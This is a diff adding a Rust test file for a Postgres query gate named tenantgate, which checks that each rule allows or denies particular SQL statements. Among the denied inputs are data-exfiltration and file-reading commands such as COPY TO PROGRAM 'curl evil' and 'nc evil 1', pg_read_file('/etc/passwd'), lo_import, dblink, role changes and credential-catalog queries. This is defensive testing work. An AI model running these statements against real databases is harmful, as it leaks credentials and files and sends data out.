@@ -1,0 +1,547 @@
+//! One allowed and at least one denied example for every statement and name rule.
+
+use super::{allowed, denied, denied_by};
+use crate::{Gate, GateConfig, Limits, Scope, Verdict};
+
+#[test]
+fn ordinary_statements_are_allowed() {
+    for sql in [
+        "SELECT * FROM orders WHERE id = $1",
+        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > $1",
+        "INSERT INTO orders (id, total) VALUES ($1, $2) RETURNING id",
+        "INSERT INTO orders SELECT * FROM staging ON CONFLICT (tenant_id, id) DO UPDATE SET total = excluded.total",
+        "UPDATE orders SET total = total + 1 WHERE id = 7",
+        "DELETE FROM orders WHERE id = 7",
+        "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total \
+         WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.total)",
+        "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT count(*) FROM recent",
+        "VALUES (1, 'a'), (2, 'b')",
+        "TABLE orders",
+        "SHOW timezone",
+        "SHOW ALL",
+        "DISCARD ALL",
+        "SET CONSTRAINTS ALL DEFERRED",
+        "SELECT pg_sleep(0.1)",
+        "SELECT * FROM information_schema.tables",
+        "SELECT * FROM information_schema.columns WHERE table_name = 'orders'",
+        "SELECT attname FROM pg_attribute a JOIN pg_type t ON t.oid = a.atttypid",
+        "SELECT * FROM pg_catalog.pg_proc, pg_index, pg_constraint, pg_settings, pg_stats",
+        "SELECT * FROM pg_prepared_statements",
+        "SELECT * FROM \"PG_ROLES\"",
+        "SELECT current_setting('timezone'), lower('X'), format('%s', 1)",
+    ] {
+        allowed(sql);
+    }
+}
+
+#[test]
+fn extended_protocol_parameters_parse() {
+    let verdict = allowed("SELECT * FROM orders WHERE id = $1");
+    assert_eq!(
+        verdict,
+        Verdict {
+            statements: 1,
+            read_only: true
+        }
+    );
+    assert!(!allowed("UPDATE orders SET total = $2 WHERE id = $1").read_only);
+}
+
+#[test]
+fn transaction_control_is_allowed() {
+    let verdict = allowed("BEGIN; SET TRANSACTION READ ONLY; COMMIT");
+    assert_eq!(
+        verdict,
+        Verdict {
+            statements: 3,
+            read_only: true
+        }
+    );
+    for sql in [
+        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
+        "BEGIN READ WRITE",
+        "SAVEPOINT s1",
+        "RELEASE SAVEPOINT s1",
+        "ROLLBACK TO SAVEPOINT s1",
+        "ROLLBACK",
+        "END",
+        "COMMIT AND CHAIN",
+        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ",
+    ] {
+        allowed(sql);
+    }
+}
+
+#[test]
+fn two_phase_commit_is_denied() {
+    denied("PREPARE TRANSACTION 'x'", "two-phase");
+    denied("COMMIT PREPARED 'x'", "two-phase");
+    denied("ROLLBACK PREPARED 'x'", "two-phase");
+}
+
+#[test]
+fn empty_queries_are_allowed_with_no_statements() {
+    for sql in [
+        "",
+        "   ",
+        ";",
+        ";;;",
+        "-- just a comment",
+        "/* block */ ;",
+        "\n\t",
+    ] {
+        assert_eq!(
+            allowed(sql),
+            Verdict {
+                statements: 0,
+                read_only: true
+            },
+            "{sql:?}"
+        );
+    }
+}
+
+#[test]
+fn every_statement_of_a_multi_statement_string_is_checked() {
+    assert_eq!(
+        allowed("SELECT 1; SELECT 2; INSERT INTO t VALUES (1)").statements,
+        3
+    );
+    denied("SELECT 1; DROP TABLE orders", "ddl");
+    denied("SELECT * FROM orders; SET ROLE admin; SELECT 1", "set-role");
+    denied(
+        "BEGIN; SELECT pg_read_file('/etc/passwd'); COMMIT",
+        "dangerous-function",
+    );
+    denied("SELECT 1; SELECT * FROM pg_roles", "catalog-enumeration");
+}
+
+#[test]
+fn ddl_is_denied() {
+    for sql in [
+        "CREATE TABLE t (id int)",
+        "CREATE TEMP TABLE t (id int)",
+        "ALTER TABLE orders ADD COLUMN x int",
+        "DROP TABLE orders",
+        "DROP SCHEMA app CASCADE",
+        "CREATE INDEX ON orders (total)",
+        "CREATE VIEW v AS SELECT 1",
+        "CREATE TABLE t AS SELECT * FROM orders",
+        "CREATE MATERIALIZED VIEW m AS SELECT 1",
+        "SELECT * INTO t2 FROM orders",
+        "COMMENT ON TABLE orders IS 'x'",
+        "SECURITY LABEL ON TABLE orders IS 'x'",
+        "REFRESH MATERIALIZED VIEW m",
+        "REINDEX TABLE orders",
+        "CLUSTER orders USING orders_pkey",
+        "ALTER SYSTEM SET work_mem = '1GB'",
+        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public",
+        "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO app",
+        "CREATE EXTENSION dblink",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
+        "CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'",
+        "CREATE ROLE evil SUPERUSER",
+        "ALTER ROLE current_user SET search_path = x",
+        "CREATE POLICY p ON orders USING (true)",
+        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
+        "CREATE SEQUENCE s",
+        "CREATE SCHEMA s",
+        "DROP OWNED BY current_user",
+    ] {
+        denied(sql, "ddl");
+    }
+}
+
+#[test]
+fn grant_revoke_is_denied() {
+    denied("GRANT SELECT ON orders TO public", "grant");
+    denied("REVOKE ALL ON orders FROM public", "grant");
+    denied("GRANT pg_read_server_files TO current_user", "grant");
+}
+
+#[test]
+fn procedural_and_administrative_statements_are_denied() {
+    denied("DO $$ BEGIN PERFORM 1; END $$", "do-block");
+    denied("CALL p()", "call");
+    denied("TRUNCATE orders", "truncate");
+    denied("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "lock");
+    denied("VACUUM orders", "maintenance");
+    denied("VACUUM FULL", "maintenance");
+    denied("ANALYZE orders", "maintenance");
+    denied("LISTEN ch", "listen-notify");
+    denied("UNLISTEN *", "listen-notify");
+    denied("NOTIFY ch, 'x'", "listen-notify");
+    denied("SELECT pg_notify('ch', 'x')", "listen-notify");
+    denied("CHECKPOINT", "admin");
+    denied("LOAD 'auto_explain'", "admin");
+}
+
+#[test]
+fn copy_to_stdout_and_from_stdin_are_allowed() {
+    assert!(allowed("COPY orders TO STDOUT").read_only);
+    assert!(allowed("COPY orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER)").read_only);
+    assert!(allowed("COPY (SELECT id FROM orders WHERE total > 10) TO STDOUT").read_only);
+    assert!(!allowed("COPY orders FROM STDIN WITH (FORMAT csv)").read_only);
+}
+
+#[test]
+fn copy_to_files_and_programs_is_denied() {
+    denied("COPY orders TO '/tmp/x'", "copy-file");
+    denied("COPY orders FROM '/etc/passwd'", "copy-file");
+    denied("COPY orders TO PROGRAM 'curl evil'", "copy-program");
+    denied("COPY orders FROM PROGRAM 'id'", "copy-program");
+    denied(
+        "COPY (SELECT * FROM orders) TO PROGRAM 'nc evil 1'",
+        "copy-program",
+    );
+}
+
+#[test]
+fn copy_checks_its_query_and_relation() {
+    denied(
+        "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
+        "dangerous-function",
+    );
+    denied("COPY pg_authid TO STDOUT", "catalog-enumeration");
+    denied(
+        "COPY (SELECT * FROM pg_database) TO STDOUT",
+        "catalog-enumeration",
+    );
+}
+
+#[test]
+fn explain_checks_its_statement() {
+    assert!(allowed("EXPLAIN SELECT * FROM orders").read_only);
+    allowed("EXPLAIN (FORMAT json, COSTS off) SELECT 1");
+    allowed("EXPLAIN (ANALYZE false) SELECT 1");
+    allowed("EXPLAIN (ANALYZE off, VERBOSE) SELECT 1");
+    allowed("EXPLAIN (ANALYZE 0) SELECT 1");
+    denied("EXPLAIN SELECT * FROM pg_roles", "catalog-enumeration");
+    denied(
+        "EXPLAIN SELECT set_config('role', 'x', false)",
+        "set-config",
+    );
+    denied("EXPLAIN CREATE TABLE t AS SELECT 1", "ddl");
+}
+
+#[test]
+fn explain_analyze_needs_configuration() {
+    denied("EXPLAIN ANALYZE SELECT 1", "explain-analyze");
+    denied("EXPLAIN ANALYZE DELETE FROM orders", "explain-analyze");
+    denied("EXPLAIN (ANALYZE) SELECT 1", "explain-analyze");
+    denied("EXPLAIN (ANALYZE on, BUFFERS) SELECT 1", "explain-analyze");
+    denied("EXPLAIN (\"analyze\" 1) SELECT 1", "explain-analyze");
+    denied("EXPLAIN (ANALYZE true) SELECT 1", "explain-analyze");
+    denied("EXPLAIN (ANALYZE 'maybe') SELECT 1", "explain-analyze");
+
+    let gate = Gate::new(GateConfig {
+        allow_explain_analyze: true,
+        ..GateConfig::default()
+    });
+    let verdict = gate.check(
+        "EXPLAIN ANALYZE SELECT 1",
+        Scope::ReadOnly,
+        &Limits::default(),
+    );
+    assert_eq!(
+        verdict,
+        Ok(Verdict {
+            statements: 1,
+            read_only: true
+        })
+    );
+    let verdict = gate.check(
+        "EXPLAIN ANALYZE DELETE FROM orders",
+        Scope::ReadWrite,
+        &Limits::default(),
+    );
+    assert_eq!(
+        verdict,
+        Ok(Verdict {
+            statements: 1,
+            read_only: false
+        })
+    );
+    denied_by(
+        &gate,
+        "EXPLAIN ANALYZE DELETE FROM orders",
+        Scope::ReadOnly,
+        &Limits::default(),
+        "read-only",
+    );
+}
+
+#[test]
+fn prepare_execute_deallocate() {
+    allowed("PREPARE q (int) AS SELECT * FROM orders WHERE id = $1");
+    assert!(!allowed("PREPARE d AS DELETE FROM orders WHERE id = $1").read_only);
+    allowed("EXECUTE q(1)");
+    allowed("DEALLOCATE q");
+    allowed("DEALLOCATE ALL");
+    denied(
+        "PREPARE q AS SELECT pg_read_file('/etc/passwd')",
+        "dangerous-function",
+    );
+    denied(
+        "PREPARE q AS SELECT * FROM pg_authid",
+        "catalog-enumeration",
+    );
+    denied("EXECUTE q(set_config('role', 'x', false))", "set-config");
+}
+
+#[test]
+fn cursors() {
+    allowed("DECLARE c CURSOR FOR SELECT * FROM orders");
+    allowed("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT 1");
+    allowed("FETCH 10 FROM c");
+    allowed("MOVE NEXT IN c");
+    allowed("CLOSE c");
+    allowed("CLOSE ALL");
+    denied(
+        "DECLARE c CURSOR FOR SELECT * FROM pg_database",
+        "catalog-enumeration",
+    );
+    denied(
+        "DECLARE c CURSOR FOR SELECT lo_import('/etc/passwd')",
+        "dangerous-function",
+    );
+}
+
+#[test]
+fn set_config_is_denied_anywhere() {
+    for sql in [
+        "SELECT set_config('role', 'x', false)",
+        "SELECT pg_catalog.set_config('app.tenant', 'victim', false)",
+        "SELECT \"set_config\"('a', 'b', true)",
+        "SELECT * FROM orders WHERE id = (SELECT 1 FROM (SELECT set_config('role','x',false)) s)",
+        "WITH c AS (SELECT set_config('role','x',false)) SELECT * FROM c",
+        "SELECT CASE WHEN true THEN set_config('a','b',false) END",
+        "SELECT * FROM ROWS FROM (set_config('a','b',false))",
+        "UPDATE orders SET note = set_config('a','b',false)",
+        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = set_config('a','b',false)",
+        "SELECT count(*) FILTER (WHERE set_config('a','b',false) IS NULL) FROM t",
+        "SELECT sum(x) OVER (ORDER BY set_config('a','b',false)) FROM t",
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = set_config('a','b',false)",
+    ] {
+        denied(sql, "set-config");
+    }
+}
+
+#[test]
+fn dangerous_functions_are_denied() {
+    for sql in [
+        "SELECT pg_read_file('/etc/passwd')",
+        "select pg_catalog.PG_READ_FILE('x')",
+        "SELECT \"pg_read_file\"('x')",
+        "SELECT pg_read_binary_file('x')",
+        "SELECT * FROM pg_ls_dir('.')",
+        "SELECT * FROM pg_ls_waldir()",
+        "SELECT * FROM pg_ls_logdir()",
+        "SELECT pg_stat_file('x')",
+        "SELECT pg_file_write('x', 'y', false)",
+        "SELECT pg_logdir_ls()",
+        "SELECT dblink('host=other', 'select 1')",
+        "SELECT * FROM public.dblink('host=other', 'select 1') AS t(x int)",
+        "SELECT dblink_connect('c', 'host=x')",
+        "SELECT dblink_exec('c', 'drop table t')",
+        "SELECT postgres_fdw_get_connections()",
+        "SELECT lo_import('/etc/passwd')",
+        "SELECT lo_export(1, '/tmp/x')",
+        "SELECT lo_open(1, 262144)",
+        "SELECT lo_create(0)",
+        "SELECT lo_creat(-1)",
+        "SELECT lo_unlink(1)",
+        "SELECT lo_get(1)",
+        "SELECT lo_put(1, 0, 'x')",
+        "SELECT lo_from_bytea(0, 'x')",
+        "SELECT lo_truncate(0, 1)",
+        "SELECT loread(0, 1)",
+        "SELECT lowrite(0, 'x')",
+        "SELECT pg_cancel_backend(1)",
+        "SELECT pg_terminate_backend(pid) FROM t",
+        "SELECT pg_reload_conf()",
+        "SELECT pg_rotate_logfile()",
+        "SELECT pg_switch_wal()",
+        "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
+        "SELECT pg_create_physical_replication_slot('s')",
+        "SELECT pg_drop_replication_slot('s')",
+        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
+        "SELECT pg_replication_origin_create('x')",
+        "SELECT pg_promote()",
+        "SELECT pg_backup_start('x')",
+        "SELECT pg_stat_reset()",
+    ] {
+        denied(sql, "dangerous-function");
+    }
+}
+
+#[test]
+fn advisory_locks_are_denied() {
+    denied("SELECT pg_advisory_lock(1)", "advisory-lock");
+    denied("SELECT pg_try_advisory_xact_lock(1, 2)", "advisory-lock");
+    denied("SELECT pg_advisory_unlock_all()", "advisory-lock");
+    allowed("SELECT * FROM orders FOR UPDATE SKIP LOCKED");
+}
+
+#[test]
+fn functions_that_run_sql_strings_are_denied() {
+    for sql in [
+        "SELECT query_to_xml('select * from pg_authid', true, false, '')",
+        "SELECT query_to_xml_and_xmlschema('select 1', true, false, '')",
+        "SELECT query_to_xmlschema('select 1', true, false, '')",
+        "SELECT cursor_to_xml('c', 1, true, false, '')",
+        "SELECT table_to_xml('orders', true, false, '')",
+        "SELECT schema_to_xml('app', true, false, '')",
+        "SELECT database_to_xml(true, false, '')",
+        "SELECT ts_stat('select v from t')",
+    ] {
+        denied(sql, "dynamic-sql");
+    }
+    allowed("SELECT xmlelement(name x, 'y')");
+}
+
+#[test]
+fn catalog_enumeration_is_denied_in_strict_mode() {
+    for sql in [
+        "SELECT * FROM pg_catalog.pg_roles",
+        "SELECT * FROM pg_roles",
+        "SELECT datname FROM pg_database",
+        "SELECT * FROM pg_authid",
+        "SELECT * FROM pg_auth_members",
+        "SELECT * FROM pg_user",
+        "SELECT * FROM pg_shadow",
+        "SELECT * FROM pg_group",
+        "SELECT nspname FROM pg_namespace",
+        "SELECT relname FROM pg_class",
+        "SELECT * FROM pg_tablespace",
+        "SELECT * FROM pg_db_role_setting",
+        "SELECT * FROM pg_stat_activity",
+        "SELECT * FROM pg_stat_user_tables",
+        "SELECT * FROM pg_statio_user_tables",
+        "SELECT * FROM pg_locks",
+        "SELECT * FROM pg_stat_statements",
+        "SELECT * FROM public.pg_stat_statements",
+        "SELECT * FROM pg_replication_slots",
+        "SELECT * FROM pg_subscription",
+        "SELECT * FROM pg_publication_tables",
+        "SELECT * FROM pg_prepared_xacts",
+        "SELECT * FROM pg_largeobject_metadata",
+        "SELECT * FROM pg_user_mappings",
+        "SELECT * FROM pg_seclabels",
+        "SELECT * FROM pg_shdescription",
+        "SELECT * FROM pg_shdepend",
+        "SELECT schemaname FROM pg_tables",
+        "SELECT o.id FROM orders o JOIN pg_class c ON c.oid = o.rel",
+        "SELECT * FROM orders WHERE owner IN (SELECT rolname FROM pg_roles)",
+        "WITH r AS (SELECT * FROM pg_catalog.pg_authid) SELECT * FROM r",
+        "SELECT (SELECT count(*) FROM pg_stat_activity)",
+        "SELECT pg_database_size('postgres')",
+        "SELECT pg_relation_size('orders')",
+        "SELECT pg_total_relation_size('orders')",
+        "SELECT pg_table_size('orders'), pg_indexes_size('orders')",
+        "SELECT pg_tablespace_size('pg_default')",
+        "SELECT pg_get_userbyid(10)",
+        "SELECT * FROM pg_stat_get_activity(NULL)",
+    ] {
+        denied(sql, "catalog-enumeration");
+    }
+}
+
+#[test]
+fn catalog_relations_are_allowed_without_strict_mode() {
+    let gate = Gate::new(GateConfig {
+        strict_catalog: false,
+        ..GateConfig::default()
+    });
+    for sql in [
+        "SELECT * FROM pg_catalog.pg_roles",
+        "SELECT * FROM pg_stat_activity",
+        "SELECT pg_database_size('x')",
+    ] {
+        assert!(
+            gate.check(sql, Scope::ReadOnly, &Limits::default()).is_ok(),
+            "{sql}"
+        );
+    }
+    denied_by(
+        &gate,
+        "SELECT pg_read_file('x')",
+        Scope::ReadWrite,
+        &Limits::default(),
+        "dangerous-function",
+    );
+}
+
+#[test]
+fn denial_messages_name_rule_and_reason_without_literals() {
+    let denial = denied("SET ROLE admin", "set-role");
+    assert_eq!(denial.sqlstate, "42501");
+    assert_eq!(
+        denial.message,
+        "tenantgate: SET ROLE is not allowed (rule set-role): a session's identity is fixed by its credentials"
+    );
+    let denial = denied(
+        "SELECT pg_catalog.pg_read_file('/etc/secret-path')",
+        "dangerous-function",
+    );
+    assert!(
+        denial.message.contains("pg_catalog.pg_read_file()"),
+        "{}",
+        denial.message
+    );
+    assert!(!denial.message.contains("secret-path"));
+    let denial = denied(
+        "SELECT * FROM pg_catalog.pg_roles WHERE rolname = 'victim'",
+        "catalog-enumeration",
+    );
+    assert!(denial.message.contains("pg_catalog.pg_roles") && !denial.message.contains("victim"));
+    assert_eq!(denial.to_string(), denial.message);
+}
+
+#[test]
+fn syntax_errors_are_denied_with_the_parsers_message() {
+    let denial = denied("SELEC 1", "syntax");
+    assert_eq!(denial.sqlstate, "42601");
+    assert!(
+        denial.message.contains("syntax error at or near \"SELEC\""),
+        "{}",
+        denial.message
+    );
+    denied("SELECT 1; SELEC 2", "syntax");
+    denied("SELECT (1", "syntax");
+    denied("SELECT 1\0", "syntax");
+}
+
+#[test]
+fn disabled_gate_passes_everything_unparsed() {
+    let gate = Gate::new(GateConfig {
+        enabled: false,
+        ..GateConfig::default()
+    });
+    let verdict = gate.check(
+        "DROP TABLE orders; SELEC",
+        Scope::ReadOnly,
+        &Limits::default(),
+    );
+    assert_eq!(
+        verdict,
+        Ok(Verdict {
+            statements: 0,
+            read_only: false
+        })
+    );
+}
+
+#[test]
+fn fingerprints_are_stable_and_literal_free() {
+    let a = crate::fingerprint("SELECT * FROM orders WHERE id = 1");
+    let b = crate::fingerprint("select *  from orders where id = 42");
+    assert_eq!(a, b);
+    assert_eq!(a.len(), 16);
+    assert!(a.chars().all(|c| c.is_ascii_hexdigit()));
+    assert_ne!(
+        a,
+        crate::fingerprint("SELECT * FROM customers WHERE id = 1")
+    );
+    assert_eq!(crate::fingerprint("SELEC 1"), "0000000000000000");
+}
